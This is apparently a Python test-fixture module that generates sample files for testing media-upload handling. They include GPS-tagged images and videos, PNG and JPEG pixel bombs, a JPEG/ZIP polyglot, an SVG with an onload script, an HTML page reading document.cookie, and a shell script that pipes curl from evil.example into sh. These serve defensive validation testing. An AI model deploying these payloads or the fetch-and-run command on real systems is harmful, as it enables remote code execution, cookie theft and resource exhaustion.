"""Test files made in code: real photos, disguised files, bombs, polyglots, videos."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

RED = (220, 20, 20)
BLUE = (20, 20, 220)


def image_bytes(fmt: str = "JPEG", size=(64, 48), color=RED, mode="RGB", **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, fmt, **save)
    return buffer.getvalue()


def noise_jpeg(size=(800, 600), quality=90) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buffer, "JPEG", quality=quality)
    return buffer.getvalue()


def two_halves(size=(200, 100), fmt="JPEG", **save) -> bytes:
    """Left half red, right half blue."""
    image = Image.new("RGB", size, RED)
    image.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **save)
    return buffer.getvalue()


def gps_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12 Secret"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (31.0, 14.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (121.0, 28.0, 7.25)
    return exif


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bilevel_png(width: int, height: int, *, full_data: bool = True) -> bytes:
    """A 1-bit greyscale PNG declaring width x height.

    With full_data, the (all-black) pixel data is really there and compresses
    to a few KB: a genuine image with many pixels. Without it, the file is a
    classic pixel bomb: a huge declared size and a token IDAT.
    """
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    if full_data:
        row = b"\x00" * (1 + (width + 7) // 8)
        parts = [compressor.compress(row) for _ in range(height)]
        idat = b"".join(parts) + compressor.flush()
    else:
        idat = compressor.compress(b"\x00" * 64) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) is patched to declare width x height."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    sof = data.find(b"\xff\xc0")
    assert sof != -1
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert('polyglot')</script>")
    return buffer.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP archive appended: opens as both."""
    return image_bytes("JPEG", (64, 64)) + zip_bytes()


TIFF = image_bytes("TIFF", (32, 32))
GIF = image_bytes("GIF", (32, 32), mode="P", color=1)
BMP = image_bytes("BMP", (32, 32))
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


LOCATION = b"+31.2304+121.4737/"
XMP_UUID = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC")


def mp4_bytes(
    brand: bytes = b"isom",
    compatible=(b"isom", b"iso2", b"avc1", b"mp41"),
    payload: int = 1024,
    moov_last: bool = True,
    location: bool = False,
) -> bytes:
    """An ISO-BMFF skeleton: ftyp, mdat and moov (last, as cameras write it, or first).

    With location, it carries what phones write: moov/udta/©xyz with the GPS
    position, a moov/meta, a track-level udta with the device, and a top-level
    XMP uuid box.
    """
    ftyp = box(b"ftyp", brand + struct.pack(">I", 0x200) + b"".join(compatible))
    mdat = box(b"mdat", b"\xab" * payload)
    track = box(b"tkhd", b"\x11" * 84)
    moov_body = box(b"mvhd", b"\x22" * 100)
    extra = b""
    if location:
        xyz = box(b"\xa9xyz", struct.pack(">HH", len(LOCATION), 0x15C7) + LOCATION)
        moov_body += box(b"udta", xyz + box(b"\xa9mak", b"PhoneMaker"))
        moov_body += box(b"meta", b"\x00" * 4 + box(b"keys", b"com.apple.quicktime.location.ISO6709" + LOCATION))
        track += box(b"udta", box(b"\xa9mod", b"Phone 12 Secret"))
        extra = box(b"uuid", XMP_UUID + b"<x:xmpmeta>" + LOCATION + b"</x:xmpmeta>")
    moov = box(b"moov", moov_body + box(b"trak", track))
    return ftyp + (mdat + moov if moov_last else moov + mdat) + extra


def ebml_bytes(doctype: bytes = b"webm", payload: int = 1024, doctype_size: bytes | None = None) -> bytes:
    elements = (
        b"\x42\x86\x81\x01"  # EBMLVersion 1
        b"\x42\xf7\x81\x01"  # EBMLReadVersion 1
        b"\x42\xf2\x81\x04"  # EBMLMaxIDLength 4
        b"\x42\xf3\x81\x08"  # EBMLMaxSizeLength 8
        + b"\x42\x82"
        + (doctype_size if doctype_size is not None else bytes([0x80 | len(doctype)]))
        + doctype
        + b"\x42\x87\x81\x04"  # DocTypeVersion 4
        b"\x42\x85\x81\x02"  # DocTypeReadVersion 2
    )
    header = b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(elements)]) + elements
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x00" * payload
    return header + segment
